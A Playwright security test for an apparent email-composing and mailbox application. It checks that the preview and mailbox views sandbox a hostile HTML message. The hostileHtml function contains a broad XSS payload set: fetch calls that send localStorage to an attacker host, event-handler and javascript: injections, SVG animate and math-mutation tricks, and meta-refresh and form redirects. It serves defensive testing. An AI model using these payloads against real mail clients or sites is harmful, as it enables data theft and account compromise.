import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { type RunningServer, startServer } from '#tests/support/server.ts';
import { administratorEnvironment, press, signIn, tabTo } from './support/console.ts';

const canary = 'canary-f3b1c9';
const secure = 'https://attacker.example';
let server: RunningServer;
let attacker: Server;
let plain: string;
let hits: string[] = [];

test.beforeAll(async () => {
  test.setTimeout(180_000);
  attacker = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.end('<script>parent.postMessage("here", "*")</script>');
  });
  attacker.on('connection', () => hits.push('connection'));
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  plain = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  server = await startServer({ env: { DEMO: '0', ...administratorEnvironment } });
});

test.afterAll(async () => {
  await server.stop();
  await new Promise((resolve) => attacker.close(resolve));
});

/** Every known way for a mail to run, to leave its frame, or to tell somebody about itself. */
function hostileHtml(): string {
  const steal = `fetch('${plain}/steal?'+encodeURIComponent(JSON.stringify(localStorage)));top.location='${plain}/top'`;
  const escaped = steal.replaceAll('"', '&quot;');
  return `<!doctype html><html><head>
<base href="${plain}/base/">
<meta http-equiv="refresh" content="0;url=${plain}/refresh">
<link rel="stylesheet" href="${secure}/style.css"><link rel="prefetch" href="${plain}/prefetch">
<link rel="preconnect" href="${plain}"><link rel="dns-prefetch" href="${plain}"><meta http-equiv="x-dns-prefetch-control" content="on">
<style>@import url("${secure}/import.css"); @font-face { font-family: x; src: url("${plain}/font.woff") } p { font-family: x }</style>
<script>${steal}</script><script src="${plain}/script.js"></script>
</head><body onload="${escaped}">
<p id="marker">marker of the mail</p>
<img src="${plain}/missing.png" onerror="${escaped}"><img src="data:image/png;base64,AAAA" onerror="${escaped}">
<svg onload="${escaped}"><a><animate attributeName="href" values="javascript:${escaped}" /><text y="20">animated</text></a>
<script>${steal}</script></svg>
<iframe srcdoc="&lt;script&gt;${escaped}&lt;/script&gt;"></iframe><iframe src="${plain}/frame"></iframe>
<object data="${plain}/object"></object><embed src="${plain}/embed">
<video src="${plain}/video" autoplay></video><audio src="${plain}/audio" autoplay></audio>
<form action="${plain}/form" target="_top" method="post"><input name="q" value="x" autofocus onfocus="${escaped}"><button>send it</button></form>
<a href="${plain}/link" target="_top">top link</a> <a href="javascript:${escaped}">script link</a>
<a href="${plain}/ping" ping="${plain}/pinged">ping link</a> <a href="relative">relative link</a>
<details open ontoggle="${escaped}"><summary>toggle</summary></details>
<math><mtext><img src="x" onerror="${escaped}"></mtext></math>
</body></html>`;
}

/** Presses everything in the frame that could be followed, and asserts that nothing came of it. */
async function nothingLeaves(page: Page, requests: readonly string[]) {
  const address = page.url();
  const content = page.locator('iframe').contentFrame();
  await expect(content.getByText('marker of the mail')).toBeVisible();
  // What is shown connects to nobody; a press on a link may, since the browser gets ready to follow it.
  await page.evaluate('fetch("/health").then((answer) => answer.text())');
  expect(hits).toEqual([]);
  for (const name of ['top link', 'script link', 'ping link', 'relative link']) {
    await content.getByText(name).click();
  }
  await content.getByRole('button', { name: 'send it' }).click();
  await content.getByText('animated').click({ force: true });
  // A round trip of the page's own: whatever the clicks began has been sent by then.
  await page.evaluate('fetch("/health").then((answer) => answer.text())');
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(1);
  expect(requests).toEqual([]);
  hits = hits.filter((hit) => hit !== 'connection');
  expect(hits).toEqual([]);
  expect(await page.evaluate('localStorage.getItem("canary")')).toBe(canary);
}

/** The requests that reached for the attacker or carried the canary, but for those that the policy of the frame stopped. */
function watch(page: Page): readonly string[] {
  const requests: string[] = [];
  const isHostile = (url: string) => url.startsWith(plain) || url.startsWith(secure) || url.includes(canary);
  page.context().on('requestfinished', (request) => {
    if (isHostile(request.url())) requests.push(request.url());
  });
  page.context().on('requestfailed', (request) => {
    if (isHostile(request.url()) && request.failure()?.errorText !== 'csp') requests.push(request.url());
  });
  return requests;
}

test('a hostile message runs nothing, follows nothing and tells nobody, in the preview and in the mailbox', async ({
  page,
}) => {
  hits = [];
  const call = await signIn(page, server.url);
  await page.evaluate(`localStorage.setItem("canary", "${canary}")`);
  const requests = watch(page);
  const html = hostileHtml();
  const made = await call('POST', '/messages', { name: 'Hostile', builder: 'html', html });
  expect(made.status).toBe(201);
  const { id } = made.body as { id: number };

  await page.goto(`${server.url}/#/messages/${id}`);
  const heading = page.getByRole('heading', { name: 'Hostile' });
  await expect(heading).toBeVisible();
  await expect(page.getByRole('textbox', { name: 'HTML of the message' })).toBeVisible();
  await heading.focus();
  await press(page, 'p');
  await expect(page.getByRole('dialog')).toBeVisible();
  await nothingLeaves(page, requests);
  await page.getByRole('button', { name: 'Close' }).focus();
  await press(page, 'Escape');

  const { status } = await call('POST', `/messages/${id}/actions/preview/reader@example.com`);
  expect(status).toBe(202);
  await page.goto(`${server.url}/#/mailbox`);
  await expect(page.getByRole('gridcell', { name: 'Hostile' })).toBeVisible();
  await tabTo(page, page.locator('[role=grid] [tabindex="0"]'));
  await press(page, 'Enter');
  await nothingLeaves(page, requests);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await tabTo(page, page.locator('section:has(> iframe)'));
  await press(page, 'Control+c');
  await expect(page.getByText('The text of the whole mail is copied')).toBeVisible();
  expect(await page.evaluate('navigator.clipboard.readText()')).toContain('marker of the mail');
  const images = page.getByRole('button', { name: 'Load images' });
  await images.focus();
  await press(page, 'Enter');
  await expect(images).toBeHidden();
  await nothingLeaves(page, requests);
});
